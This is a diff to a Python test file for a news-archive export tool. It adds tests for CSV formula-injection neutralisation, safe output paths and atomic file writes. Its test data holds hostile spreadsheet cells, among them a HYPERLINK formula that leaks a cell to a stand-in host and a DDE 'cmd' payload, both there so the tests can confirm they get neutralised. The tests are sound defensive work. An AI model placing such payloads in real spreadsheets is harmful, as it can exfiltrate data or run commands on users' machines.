@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import base64
 import json
+from datetime import timedelta
 from pathlib import Path
 
 import duckdb
@@ -100,11 +101,13 @@ def test_day_and_outlet_filters_pick_whole_partitions(data: Path, tmp_path: Path
                                  "--outlet", "fa-payam"])
     assert result.exit_code == 0, result.output
     lines = out.read_text(encoding="utf-8").splitlines()
-    want = [r for r in _lake_rows(data, "articles") if r["outlet"] == "fa-payam"]
+    # the day's partition only: the run also files articles dated other days into those days' partitions
+    lake = _lake_rows(data, "articles")
+    want = [r for r in lake if r["outlet"] == "fa-payam" and r["day"] == DAY]
     assert len(lines) == len(want) > 0
     assert {json.loads(line)["outlet"] for line in lines} == {"fa-payam"}
     empty = tmp_path / "none.jsonl"
-    assert export(data, "articles", "jsonl", empty, start=DAY.replace(day=8)) == 0
+    assert export(data, "articles", "jsonl", empty, start=max(r["day"] for r in lake) + timedelta(days=1)) == 0
     assert empty.read_text() == ""
 
 
@@ -177,3 +180,85 @@ def test_csv_quotes_only_where_needed(data: Path):
     counts = dict(query(data, "select outlet, count(*) from articles group by 1").fetchall())
     assert {line.split(",")[0]: int(line.split(",")[1]) for line in lines[1:]} == counts
     assert {line.split(",")[2] for line in lines[1:]} <= {"true", "false"}
+
+
+# -- CSV cells and outputs within bounds (issue 24) --------------------------------------------------------------
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ('=HYPERLINK("http://x.example/?"&A1,"خبر")', '\'=HYPERLINK("http://x.example/?"&A1,"خبر")'),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(1,2)", "'@SUM(1,2)"),
+    ("\tالمصدر", "'\tالمصدر"), ("\r=1", "'\r=1"), ("-۵ درصد", "'-۵ درصد"),
+    ("-3", "-3"), ("+1.5", "+1.5"), ("-2e3", "-2e3"), ("+98", "+98"),  # numbers that are numbers
+    ("گفت‌وگوی تلفنی", "گفت‌وگوی تلفنی"), ("a=b", "a=b"), ("", ""), ('["=1"]', '["=1"]'),
+])
+def test_formula_cells_get_a_leading_quote(cell: str, written: str):
+    from akhbar.export import neutralised
+
+    assert neutralised(cell) == written
+
+
+def test_csv_writer_neutralises_text_not_numbers_or_bytes_and_quotes_a_bare_cr():
+    import csv
+    import io
+
+    from akhbar.export import write_csv
+
+    schema = pa.schema([("title", pa.string()), ("n", pa.int64()), ("signature", pa.binary())])
+    batch = pa.record_batch([pa.array(["=1+1", "خبر\rفوری"]), pa.array([-3, 4]), pa.array([b"\xfb\xff\xbf", b"x"])],
+                            schema=schema)
+    for raw in (False, True):
+        out = io.StringIO()
+        assert write_csv([batch], schema, out, raw_cells=raw) == 2
+        assert "\r\n" not in out.getvalue() and out.getvalue().endswith("\n")
+        rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+        assert rows == [["title", "n", "signature"], ["=1+1" if raw else "'=1+1", "-3", "+/+/"],
+                        ["خبر\rفوری", "4", "eA=="]]  # the CR inside a quoted field, not a row break
+
+
+def test_output_path_refuses_stored_data_links_and_special_files(tmp_path: Path):
+    import os
+
+    from akhbar.export import output_path, protected_paths
+
+    data = tmp_path / "data"
+    (data / "lake" / "articles").mkdir(parents=True)
+    elsewhere = tmp_path / "s3-less-lake"
+    protected = protected_paths(data, str(elsewhere))
+    for bad in (data / "lake", data / "lake" / "articles" / "x.csv", data / "warc" / "w.csv",
+                data / "crawl" / "c.jsonl", data / "index" / "search" / "i", data / "akhbar.duckdb",
+                data / "akhbar.duckdb.views", elsewhere / "articles" / "a.csv"):
+        with pytest.raises(ValueError, match="stored data"):
+            output_path(bad, protected)
+    os.mkfifo(tmp_path / "fifo")
+    (tmp_path / "link").symlink_to(tmp_path / "fifo")
+    for bad, why in ((tmp_path / "fifo", "not a regular file"), (tmp_path / "link", "symbolic link"),
+                     (tmp_path, "directory"), (Path("/dev/null"), "not a regular file"), (Path(".."), "file name")):
+        with pytest.raises(ValueError, match=why):
+            output_path(bad, protected)
+    # the folder may be reached through a link: its real path is what is checked, and what is written into
+    (tmp_path / "to-lake").symlink_to(data / "lake", target_is_directory=True)
+    with pytest.raises(ValueError, match="stored data"):
+        output_path(tmp_path / "to-lake" / "new.csv", protected)
+    (tmp_path / "to-out").symlink_to(tmp_path, target_is_directory=True)
+    assert output_path(tmp_path / "to-out" / "data.csv", protected) == tmp_path.resolve() / "data.csv"
+    assert output_path(data / "exports.csv", protected) == data.resolve() / "exports.csv"  # the data dir itself: ok
+
+
+def test_replaced_atomically_writes_a_new_file_with_the_umasks_mode_and_leaves_nothing_on_failure(tmp_path: Path):
+    import os
+
+    from akhbar.export import replaced_atomically
+
+    target = tmp_path / "out.csv"
+    target.write_text("old\n")
+    os.chmod(target, 0o600)
+    with replaced_atomically(target) as fh:
+        fh.write("گفت‌وگو\n".encode())
+    assert target.read_text(encoding="utf-8") == "گفت‌وگو\n"
+    umask = os.umask(0)
+    os.umask(umask)
+    assert target.stat().st_mode & 0o777 == 0o666 & ~umask  # a new file, as open() would make it
+    with pytest.raises(RuntimeError), replaced_atomically(target) as fh:
+        fh.write(b"half")
+        raise RuntimeError("stopped")
+    assert target.read_text(encoding="utf-8") == "گفت‌وگو\n" and [p.name for p in tmp_path.iterdir()] == ["out.csv"]
